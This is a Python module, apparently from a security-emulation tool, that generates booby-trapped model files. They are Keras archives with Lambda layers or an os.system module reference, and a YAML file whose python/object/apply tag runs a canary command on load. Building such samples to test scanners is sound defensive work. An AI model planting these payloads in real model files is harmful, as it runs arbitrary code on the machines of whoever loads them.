"""Code in model files that are no pickles: layers that carry programs, and YAML that makes objects."""

import io
import json
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

from caponier.emulate.file_emulation import command, write_all
from caponier.matrix.technique import TechniqueId


@dataclass(frozen=True)
class CodeLayerAttack:
    """Writes Keras configurations and YAML files that run code when they are loaded."""

    name: ClassVar[str] = "code_layer_attack"
    description: ClassVar[str] = "Keras models with a Lambda layer or a foreign module, and YAML with Python tags"
    techniques: ClassVar[tuple[TechniqueId, ...]] = (
        TechniqueId("atlas", "AML.T0018.002"),
        TechniqueId("atlas", "AML.T0011.000"),
        TechniqueId("amltm-2020", "AMLTM.EXEC.01"),
        TechniqueId("amltm-2020", "AMLTM.PERSIST.01"),
    )
    harmful: ClassVar[bool] = True

    def write(self, folder: Path, canary: Path) -> list[Path]:
        """Write the files; see `caponier.emulate.file_emulation.FileEmulation.write`."""
        order = command(canary)
        function = {"class_name": "__lambda__", "config": {"code": "4wEAAAA=", "defaults": None}}
        lambda_layer = {"module": "keras.layers", "class_name": "Lambda", "config": {"function": function}}
        foreign = {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}
        contents = {
            "lambda.keras": _keras([lambda_layer]),
            "module.keras": _keras([{"module": "keras.layers", "class_name": "Dense", "config": {"act": foreign}}]),
            "lambda.json": json.dumps({"class_name": "Sequential", "config": {"layers": [lambda_layer]}}).encode(),
            "lambda.h5": b"\x89HDF\r\n\x1a\n" + bytes(64) + json.dumps({"class_name": "Lambda"}).encode() + bytes(64),
            "object.yaml": f"model: !!python/object/apply:os.system [{json.dumps(order)}]\n".encode(),
        }
        return write_all(folder, contents)


def _keras(layers: Sequence[Mapping[str, object]]) -> bytes:
    config = {"module": "keras", "class_name": "Sequential", "config": {"layers": layers}}
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        # With dates of their own, so that the same files have the same digests tomorrow.
        archive.writestr(zipfile.ZipInfo("config.json"), json.dumps(config))
        archive.writestr(zipfile.ZipInfo("metadata.json"), json.dumps({"keras_version": "3.6.0"}))
        archive.writestr(zipfile.ZipInfo("model.weights.h5"), b"\x89HDF\r\n\x1a\n" + bytes(64))
    return stream.getvalue()


EMULATION = CodeLayerAttack()
